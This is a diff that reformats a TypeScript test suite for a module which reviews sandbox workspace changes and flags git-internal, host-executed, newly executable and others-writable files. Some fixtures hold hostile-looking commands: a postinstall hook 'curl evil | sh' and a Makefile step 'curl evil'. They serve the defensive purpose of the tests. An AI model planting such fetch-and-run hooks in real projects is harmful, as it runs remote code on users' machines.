@@ -19,7 +19,12 @@ function manifest(...entries: ManifestEntry[]): Manifest {
   return new Map(entries.map((e) => [e.path, e]));
 }
 /** A box snapshot whose contents hold every file that differs from the baseline, as readBoxTree keeps them. */
-function box(baseline: Manifest, files: Record<string, string | Buffer>, others: ManifestEntry[] = [], modes: Record<string, number> = {}): BoxTreeSnapshot {
+function box(
+  baseline: Manifest,
+  files: Record<string, string | Buffer>,
+  others: ManifestEntry[] = [],
+  modes: Record<string, number> = {},
+): BoxTreeSnapshot {
   const entries = manifest(...Object.entries(files).map(([p, c]) => file(p, c, modes[p] ?? baseline.get(p)?.mode ?? 0o644)), ...others);
   const contents = new Map<string, Buffer>();
   for (const [p, c] of Object.entries(files)) {
@@ -101,7 +106,11 @@ suite('changeSet', () => {
 
   test('a deletion and an addition are not paired into a rename across .git: each is applied or skipped on its own', () => {
     const baseline = manifest(file('notes.txt', 'same bytes'), dir('.git'), file('.git/packed', 'git bytes'), dir('src'));
-    const state = box(baseline, { '.git/lost-found/notes.txt': 'same bytes', '.GIT./copy': 'same bytes', 'src/packed': 'git bytes' }, [dir('.git'), dir('.git/lost-found'), dir('src')]);
+    const state = box(baseline, { '.git/lost-found/notes.txt': 'same bytes', '.GIT./copy': 'same bytes', 'src/packed': 'git bytes' }, [
+      dir('.git'),
+      dir('.git/lost-found'),
+      dir('src'),
+    ]);
     const set = computeChangeSet('/ws', baseline, state);
     assert.deepEqual(
       set.changes.map((c) => [c.path, c.kind, c.fromPath]),
@@ -114,8 +123,14 @@ suite('changeSet', () => {
       ],
     );
     const plan = planApply({ baseline, changes: set.changes, current: baseline });
-    assert.deepEqual(plan.operations.map((op) => `${op.kind} ${op.path}`), ['delete notes.txt', 'write src/packed']);
-    assert.deepEqual(plan.skipped.map((s) => s.path), ['.GIT./copy', '.git/lost-found/notes.txt', '.git/packed']);
+    assert.deepEqual(
+      plan.operations.map((op) => `${op.kind} ${op.path}`),
+      ['delete notes.txt', 'write src/packed'],
+    );
+    assert.deepEqual(
+      plan.skipped.map((s) => s.path),
+      ['.GIT./copy', '.git/lost-found/notes.txt', '.git/packed'],
+    );
   });
 
   test('type changes are one modified entry with the new type', () => {
@@ -176,26 +191,46 @@ suite('changeSet', () => {
       file('Makefile', 'all:'),
       file('README.md', 'r'),
     );
-    const state = box(baseline, {
-      '.git/HEAD': 'ref2',
-      '.git/hooks/pre-commit': '#!/bin/sh',
-      'package.json': JSON.stringify({ version: '1.0.1', name: 'p', scripts: { test: 'mocha' } }, null, 2),
-      'pkg/package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'mocha', postinstall: 'curl evil | sh' } }),
-      'broken/package.json': '{ not json',
-      'new/package.json': JSON.stringify({ name: 'n' }),
-      'Makefile': 'all:\n\tcurl evil',
-      'README.md': 'r2',
-      '.vscode/tasks.json': '{}',
-      '.github/workflows/ci.yml': 'on: push',
-      'yarn.lock': '#',
-      'sub/Dockerfile.dev': 'FROM x',
-      '.devcontainer/devcontainer.json': '{}',
-      '.husky/pre-push': 'x',
-      'tools/build.mk': 'x',
-      'docker-compose.override.yml': 'x',
-      'tool.sh': '#!/bin/sh',
-    }, [dir('.git'), dir('.git/hooks'), dir('pkg'), dir('broken'), dir('new'), dir('.vscode'), dir('.github'), dir('.github/workflows'), dir('sub'), dir('.devcontainer'), dir('.husky'), dir('tools')], { 'tool.sh': 0o755, '.git/hooks/pre-commit': 0o755 });
-    const set = computeChangeSet('/ws', baseline, state, { baseContent: (p) => (baseline.has(p) && p.endsWith('package.json') ? Buffer.from(basePackage) : undefined) });
+    const state = box(
+      baseline,
+      {
+        '.git/HEAD': 'ref2',
+        '.git/hooks/pre-commit': '#!/bin/sh',
+        'package.json': JSON.stringify({ version: '1.0.1', name: 'p', scripts: { test: 'mocha' } }, null, 2),
+        'pkg/package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'mocha', postinstall: 'curl evil | sh' } }),
+        'broken/package.json': '{ not json',
+        'new/package.json': JSON.stringify({ name: 'n' }),
+        Makefile: 'all:\n\tcurl evil',
+        'README.md': 'r2',
+        '.vscode/tasks.json': '{}',
+        '.github/workflows/ci.yml': 'on: push',
+        'yarn.lock': '#',
+        'sub/Dockerfile.dev': 'FROM x',
+        '.devcontainer/devcontainer.json': '{}',
+        '.husky/pre-push': 'x',
+        'tools/build.mk': 'x',
+        'docker-compose.override.yml': 'x',
+        'tool.sh': '#!/bin/sh',
+      },
+      [
+        dir('.git'),
+        dir('.git/hooks'),
+        dir('pkg'),
+        dir('broken'),
+        dir('new'),
+        dir('.vscode'),
+        dir('.github'),
+        dir('.github/workflows'),
+        dir('sub'),
+        dir('.devcontainer'),
+        dir('.husky'),
+        dir('tools'),
+      ],
+      { 'tool.sh': 0o755, '.git/hooks/pre-commit': 0o755 },
+    );
+    const set = computeChangeSet('/ws', baseline, state, {
+      baseContent: (p) => (baseline.has(p) && p.endsWith('package.json') ? Buffer.from(basePackage) : undefined),
+    });
     const flags = Object.fromEntries(set.changes.map((c) => [c.path, c.flags]));
     assert.deepEqual(flags['.git/HEAD'], ['git-internal']);
     assert.deepEqual(flags['.git/hooks/pre-commit'], ['git-internal', 'newly-executable']);
@@ -205,7 +240,16 @@ suite('changeSet', () => {
     assert.deepEqual(flags['new/package.json'], [], 'a new package.json without scripts');
     assert.deepEqual(flags['Makefile'], ['host-executed']);
     assert.deepEqual(flags['README.md'], []);
-    for (const hostExecuted of ['.vscode/tasks.json', '.github/workflows/ci.yml', 'yarn.lock', 'sub/Dockerfile.dev', '.devcontainer/devcontainer.json', '.husky/pre-push', 'tools/build.mk', 'docker-compose.override.yml']) {
+    for (const hostExecuted of [
+      '.vscode/tasks.json',
+      '.github/workflows/ci.yml',
+      'yarn.lock',
+      'sub/Dockerfile.dev',
+      '.devcontainer/devcontainer.json',
+      '.husky/pre-push',
+      'tools/build.mk',
+      'docker-compose.override.yml',
+    ]) {
       assert.deepEqual(flags[hostExecuted], ['host-executed'], hostExecuted);
     }
     assert.deepEqual(flags['tool.sh'], ['newly-executable']);
@@ -213,12 +257,17 @@ suite('changeSet', () => {
 
   test('flags: a change that makes a file or directory writable by the group or others', () => {
     const baseline = manifest(dir('.vscode'), file('.vscode/settings.json', '{}'), file('run.txt', 'r'), file('private.txt', 'p', 0o640));
-    const state = box(baseline, { '.vscode/settings.json': '{}', 'run.txt': 'r', 'private.txt': 'p', 'new-shared.txt': 'n', 'new.txt': 'n2' }, [dir('.vscode', 0o777), dir('drop', 0o775)], {
-      'run.txt': 0o664,
-      'private.txt': 0o600,
-      'new-shared.txt': 0o666,
-      'new.txt': 0o644,
-    });
+    const state = box(
+      baseline,
+      { '.vscode/settings.json': '{}', 'run.txt': 'r', 'private.txt': 'p', 'new-shared.txt': 'n', 'new.txt': 'n2' },
+      [dir('.vscode', 0o777), dir('drop', 0o775)],
+      {
+        'run.txt': 0o664,
+        'private.txt': 0o600,
+        'new-shared.txt': 0o666,
+        'new.txt': 0o644,
+      },
+    );
     const flags = Object.fromEntries(computeChangeSet('/ws', baseline, state).changes.map((c) => [c.path, c.flags]));
     assert.deepEqual(flags, {
       '.vscode': ['others-writable'],
